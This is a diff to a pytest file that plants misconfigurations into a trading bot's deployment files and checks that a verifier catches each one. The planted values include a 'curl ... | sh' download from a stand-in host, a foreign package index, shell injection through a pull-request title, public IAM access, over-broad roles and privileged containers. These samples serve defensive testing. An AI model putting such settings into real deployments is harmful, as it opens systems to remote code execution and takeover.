@@ -11,7 +11,7 @@ import pytest
 
 from delta_go.arrangement import found_by
 from delta_go.domain import DeltaGoError, InputError
-from delta_go.learning.registry import APPROVAL, MANIFEST_FILE
+from delta_go.learning.registry import APPROVAL, MANIFEST_FILE, parse_manifest
 from delta_go.live.rehearse import answers_at, child, free_ports, services_on
 from delta_go.model_file import digest, parse_plain, plain_bytes
 from delta_go.ops.verify import ITEMS, RULES, Finding, facts_of, look, look_elsewhere, paths_of, still_open, try_part, verify
@@ -54,6 +54,7 @@ def test_the_copy_holds(tree):
 HMM, TRADE, BOT = (f"deploy/{name}/Dockerfile" for name in ("hmm-detector", "trade-predictor", "bot"))
 LIVE, TRY = "deploy/hmm-detector.production.yaml", "deploy/hmm-detector.staging.yaml"
 FLOW, WEEKLY, CI = (f".github/workflows/{name}.yml" for name in ("deploy-gcp", "retrain", "ci"))
+UNIT = "deploy/bot/delta-go-bot.service"
 ALIKE, KEY = "staging as production", "0123456789abcdef0123456789abcdef"
 PLANTED = {  # what: check, file, old, new, and which checks speak up too
     "the images have another Python": ("one Python", BOT, "python:3.11-slim", "python:3.12-slim"),
@@ -67,7 +68,7 @@ PLANTED = {  # what: check, file, old, new, and which checks speak up too
     "a port in a function": ("port from outside", "deploy/functions/hmm-detector/main.py", "import os\n", "import os\nport = 8080\n"),
     "a service that nobody deploys": ("everything is deployed", FLOW, "--services hmm-detector,trade-predictor", "--services hmm-detector"),
     "a bot that nobody deploys": ("everything is deployed", FLOW, " --bot", ""),
-    "nobody deploys to production": ("everything is deployed", FLOW, "deploy --env production --services", "deploy --env staging --services", "guarded roll-outs"),
+    "nobody deploys to production": ("everything is deployed", FLOW, "deploy --env production --services", "deploy --env staging --services", "guarded roll-outs", "staging first"),
     "no way back": ("a way back", FLOW, "--env production --abort", "--env production --resume"),
     "two roll-outs race": ("guarded roll-outs", FLOW, "cancel-in-progress: false", "cancel-in-progress: true"),
     "no environment": ("guarded roll-outs", FLOW, "    environment: production\n", ""),
@@ -86,6 +87,19 @@ PLANTED = {  # what: check, file, old, new, and which checks speak up too
     "a bot with all rights": ("the bot is held", "deploy/bot/delta-go-bot.service", "--cap-drop ALL", "--privileged"),
     "a bot that is root": ("the bot is held", "deploy/bot/delta-go-bot.service", "--user 10001:10001 ", ""),
     "a bot without a limit": ("the bot is held", "deploy/bot/delta-go-bot.service", "--memory 600m", ""),
+    "a journal that dies with its container": ("the bot is held", UNIT, "--volume /var/lib/delta-go:/var/lib/delta-go ", ""),
+    "a drain that is cut off": ("the bot is moved", UNIT, "TimeoutStopSec=60", "TimeoutStopSec=20"),
+    "a container that is killed": ("the bot is moved", UNIT, "--stop-timeout 45", "--stop-timeout 1"),
+    "a bot that is killed": ("the bot is moved", UNIT, "ExecStop=/usr/bin/docker stop -t 45", "ExecStop=/usr/bin/docker kill"),
+    "a bot that stays away": ("the bot is moved", UNIT, "Restart=always", "Restart=no"),
+    "a bot without its secrets": ("the bot is moved", UNIT, "ExecStartPre=/usr/bin/python3 /usr/local/lib/delta-go/fetch_secrets.py", "# "),
+    "a roll-out that asks nobody": ("the bot is moved", "deploy/bot/commands.json", "for n in $(seq 60)", "exit 0; for n in $(seq 60)"),
+    "a roll-out that kills": ("the bot is moved", "deploy/bot/commands.json", "systemctl stop delta-go-bot.service", "docker kill delta-go-bot"),
+    "a roll-out that asks another port": ("the bot is moved", "deploy/bot/commands.json", "127.0.0.1:8095", "127.0.0.1:8096"),
+    "numbers of another port": ("the bot is moved", "deploy/bot/ops-agent.yaml", "127.0.0.1:8095", "127.0.0.1:8096"),
+    "real money by default": ("the bot is moved", "deploy/bot/bot.env", "DELTA_MODE=paper", "DELTA_MODE=live"),
+    "packages from elsewhere": ("pinned requirements", BOT, "install --no-deps -r", "install --extra-index-url https://pypi.example/simple --no-deps -r"),
+    "a script from elsewhere": ("pinned requirements", HMM, "WORKDIR /src\n", "WORKDIR /src\nRUN curl -s https://example.com/x | sh\n"),
     "no startup probe": ("probes", LIVE, "startupProbe:", "startProbe:", ALIKE),
     "a probe of something else": ("probes", LIVE, "path: /health/live", "path: /health/ready", ALIKE),
     "a probe without an end": ("probes", LIVE, "failureThreshold: 30", "failureThreshold: 300", ALIKE),
@@ -103,9 +117,9 @@ PLANTED = {  # what: check, file, old, new, and which checks speak up too
     "a misspelt variable": ("settings accepted", LIVE, "SERVICE_THREADS", "SERVICE_THREAD", "concurrency", ALIKE),
     "the image latest": ("images by digest", LIVE, "hmm-detector:GIT_SHA", "hmm-detector:latest", ALIKE),
     "another service's image": ("images by digest", LIVE, "delta-go/hmm-detector:", "delta-go/trade-predictor:", ALIKE),
-    "everybody may ask": ("closed doors", "deploy/access/invokers.json", "serviceAccount:bot@PROJECT_ID.iam.gserviceaccount.com", "allUsers"),
-    "every Google account may ask": ("closed doors", "deploy/access/invokers.json", "serviceAccount:bot@PROJECT_ID.iam.gserviceaccount.com", "allAuthenticatedUsers"),
-    "a stranger may ask": ("closed doors", "deploy/access/invokers.json", "serviceAccount:bot@", "user:somebody@"),
+    "everybody may ask": ("closed doors", "deploy/network.md", "\ngcloud compute addresses create bot", "\ngcloud run services add-iam-policy-binding hmm-detector --member allUsers --role roles/run.invoker\ngcloud compute addresses create bot"),
+    "every Google account may ask": ("closed doors", "deploy/access/grant.py", "serviceAccount:{member}", "allAuthenticatedUsers"),
+    "an image that lets in everybody": ("closed doors", HMM, "HOST=0.0.0.0", "HOST=0.0.0.0 SERVICE_AUTH=none"),
     "an open roll-out": ("closed doors", FLOW, "--no-allow-unauthenticated", "--allow-unauthenticated"),
     "IAM is not asked": ("closed doors", LIVE, "run.googleapis.com/ingress: all", 'run.googleapis.com/invoker-iam-disabled: "true"', ALIKE),
     "the service lets in another": ("closed doors", LIVE, "value: bot@PROJECT_ID", "value: somebody@PROJECT_ID", ALIKE),
@@ -113,6 +127,12 @@ PLANTED = {  # what: check, file, old, new, and which checks speak up too
     "an owner": ("small roles", "deploy/access/roles.json", "roles/run.developer", "roles/owner"),
     "an editor in a command": ("small roles", "deploy/network.md", "\ngcloud compute addresses create bot", "\ngcloud projects add-iam-policy-binding PROJECT_ID --role roles/editor\ngcloud compute addresses create bot"),
     "a deployer who reads secrets": ("small roles", "deploy/access/roles.json", '"roles/run.developer"', '"roles/run.developer", "roles/secretmanager.secretAccessor"'),
+    "a bot that may administer": ("small roles", "deploy/access/roles.json", '"roles/logging.logWriter", "roles/monitoring.metricWriter"', '"roles/run.admin"'),
+    "a bot that reads every secret": ("small roles", "deploy/access/roles.json", '"roles/monitoring.metricWriter"', '"roles/secretmanager.secretAccessor"'),
+    "a bot that administers its secrets": ("small roles", "deploy/access/roles.json", "roles/secretmanager.secretAccessor", "roles/secretmanager.admin"),
+    "a deployer who gives rights where it builds": ("small roles", "deploy/access/roles.json", '"roles/cloudbuild.builds.editor"', '"roles/iam.securityAdmin"'),
+    "a builder who gives rights": ("small roles", "deploy/access/roles.json", '"builder": {"project": ["roles/logging.logWriter"]', '"builder": {"project": ["roles/resourcemanager.projectIamAdmin"]'),
+    "a build as the project's default account": ("own accounts", "deploy/cloudbuild.yaml", "serviceAccount: projects/${PROJECT_ID}/serviceAccounts/builder@${PROJECT_ID}.iam.gserviceaccount.com\n", ""),
     "a service with a role": ("small roles", "deploy/access/roles.json", '"trade-predictor": {"project": []', '"trade-predictor": {"project": ["roles/logging.viewer"]'),
     "a secret that moves": ("secrets by number", "deploy/bot/secrets.conf", "delta-api-key/versions/1", "delta-api-key/versions/latest"),
     "a secret in its place's stead": ("secrets by number", "deploy/bot/secrets.conf", "# DELTA_API_KEY=projects/PROJECT_ID/secrets/delta-api-key/versions/1", "DELTA_API_KEY=hello"),
@@ -128,13 +148,29 @@ PLANTED = {  # what: check, file, old, new, and which checks speak up too
     "strangers start it": ("least permissions", CI, "  pull_request:\n", "  pull_request_target:\n"),
     "retraining deploys": ("retraining proposes", WEEKLY, "run: .github/propose.sh", "run: .github/propose.sh && .venv/bin/delta-go deploy --env production"),
     "retraining becomes the deployer": ("retraining proposes", WEEKLY, "issues: write", "issues: write\n      id-token: write", "least permissions"),
-    "retraining's script deploys": ("retraining proposes", ".github/propose.sh", "gh workflow run ci.yml", "gh workflow run deploy-gcp.yml"),
+    "retraining's script deploys": ("retraining proposes", ".github/propose.sh", "git push", "gh workflow run deploy-gcp.yml\ngit push"),
+    "retraining merges its own proposal": ("retraining proposes", ".github/propose.sh", "gh pr create", "gh pr merge --auto retrain || gh pr create"),
+    "retraining pushes to main": ("retraining proposes", ".github/propose.sh", "--force origin retrain", "--force origin HEAD:main"),
+    "retraining has a secret": ("retraining proposes", WEEKLY, "github.token", "secrets.ADMIN"),
+    "retraining starts workflows": ("retraining proposes", WEEKLY, "actions: read # what was trained", "actions: write"),
+    "a stranger's words as a command": ("plain steps", CI, "run: make wheel", 'run: make wheel TITLE="${{ github.event.pull_request.title }}"'),
+    "a stranger on our machine": ("plain steps", CI, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
+    "a failure that does not count": ("plain steps", FLOW, "        id: roll-out\n", "        id: roll-out\n        continue-on-error: true\n"),
+    "a failure that the shell forgives": ("plain steps", CI, "run: make test", "run: make test || true"),
+    "a pull request deploys": ("guarded roll-outs", FLOW, "  workflow_dispatch:\n", "  pull_request:\n  workflow_dispatch:\n"),
+    "every branch deploys": ("guarded roll-outs", FLOW, "branches: [main]", 'branches: ["**"]'),
+    "production beside staging": ("staging first", FLOW, "    needs: staging\n", ""),
+    "production after a staging that failed": ("staging first", FLOW, "    needs: staging\n", "    needs: staging\n    if: always()\n"),
+    "nothing is verified": ("staging first", FLOW, "        run: .venv/bin/delta-go verify\n", "        run: .venv/bin/delta-go --help\n"),
+    "changes are not verified": ("staging first", CI, "delta-go verify --full", "delta-go --help"),
     "retraining in production": ("retraining proposes", WEEKLY, "    timeout-minutes: 15\n", "    timeout-minutes: 15\n    environment: production\n"),
     "an alarm about nothing": ("alarms hear something", "deploy/alerts/bot-quota.yaml", "delta_go_bot_quota_used_ratio", "delta_go_bot_quota"),
     "an alarm on a name that is none": ("alarms hear something", "deploy/alerts/bot-silent.yaml", "delta_go_bot_heartbeat_age_seconds", "deltago_heartbeat"),
     "an alarm on a log metric that is none": ("alarms hear something", "deploy/alerts/service-errors.yaml", "user/delta-go-service-errors", "user/delta-go-service-failures"),
+    "an alarm on a state that is none": ("alarms hear something", "deploy/alerts/bot-halted.yaml", 'state="HALTED"', 'state="HALTD"'),
+    "an alarm on a label that is none": ("alarms hear something", "deploy/alerts/bot-breaker-open.yaml", 'position="open"', 'state="open"'),
     "an alarm that is off": ("alarms hear something", "deploy/alerts/bot-silent.yaml", "enabled: true", "enabled: false"),
-    "a workflow that cannot be read": ("a way back", FLOW, "jobs:", "jobs: [", "pinned actions", "least permissions", "everything is deployed", "guarded roll-outs", "retraining proposes"),
+    "a workflow that cannot be read": ("a way back", FLOW, "jobs:", "jobs: [", "pinned actions", "least permissions", "plain steps", "everything is deployed", "guarded roll-outs", "staging first", "retraining proposes"),
 }
 
 
@@ -184,6 +220,16 @@ def relist(models: Path) -> None:
     (models / MANIFEST_FILE).write_text(json.dumps(manifest))
 
 
+def judge_it(models: Path, **approval) -> dict:
+    """A verdict by hand, and an approval where one is given."""
+    manifest = json.loads((models / MANIFEST_FILE).read_text()) | {"verdict": "trade"}
+    (models / MANIFEST_FILE).write_text(json.dumps(manifest))
+    if approval:
+        manifest["approval"] = {"set": parse_manifest((models / MANIFEST_FILE).read_bytes()).version, "rules": "1", "replaces": None, "data_end": 0, **approval}
+        (models / MANIFEST_FILE).write_text(json.dumps(manifest))
+    return manifest.get("approval", {})
+
+
 MODELS = {
     "a changed byte": ("model hashes", flip), "a lost model": ("model files", lose("hmm_model_SOLUSD.pkl")), "a lost manifest": ("model files", lose(MANIFEST_FILE)),
     "a stray model": ("model files", lambda models: shutil.copy(models / "hmm_model_BTCUSD.pkl", models / "hmm_model_XRPUSD.pkl")),
@@ -191,6 +237,7 @@ MODELS = {
     "other answers": ("recorded answers", lambda models: turn(models, "trade_predictor.pkl", lambda data: data["golden"]["answers"].__setitem__(0, 0.123))),
     "a parameter that is no number": ("recorded answers", lambda models: turn(models, "hmm_model_BTCUSD.pkl", lambda data: data["golden"]["answers"].__setitem__(0, float("nan")))),
     "another list of features": ("feature lists", relist),
+    "a verdict that nobody gave": ("approval", judge_it),
 }
 
 
@@ -201,7 +248,20 @@ def test_planted_in_a_model(what, tree):
     plant(tree / "models")
     found = caught(tree)
     assert name in found and any(".pkl" in fault or MANIFEST_FILE in fault for fault in found[name])
-    assert not [check for check, faults in found.items() if check in ("model files", "model hashes", "models load", "recorded answers", "feature lists") and faults and check != name]
+    assert not [check for check, faults in found.items() if check in ("model files", "model hashes", "models load", "recorded answers", "feature lists", "approval") and faults and check != name]
+
+
+@pytest.mark.parametrize("card, words", [(None, "not there or was changed"), ({"outcome": "refused"}, "does not"), ({"outcome": "approved", "candidate": "0" * 12}, "does not"), ({"outcome": "approved"}, "")])
+def test_an_approval_is_worth_its_card(card, words, tree):
+    """Written into a manifest it says nothing: the card it names lies there and approves this very set."""
+    version = judge_it(tree / "models", card="0" * 64)["set"]
+    raw = json.dumps({"candidate": version, **(card or {})}).encode()
+    if card:
+        (tree / "reports/promotion").mkdir(parents=True)
+        (tree / f"reports/promotion/{version}.json").write_bytes(raw)
+        judge_it(tree / "models", card=digest(raw))
+    found = caught(tree)
+    assert (list(found) == ["approval"] and words in found["approval"][0]) if words else not found
 
 
 def test_a_file_of_keys_is_noticed(tree):
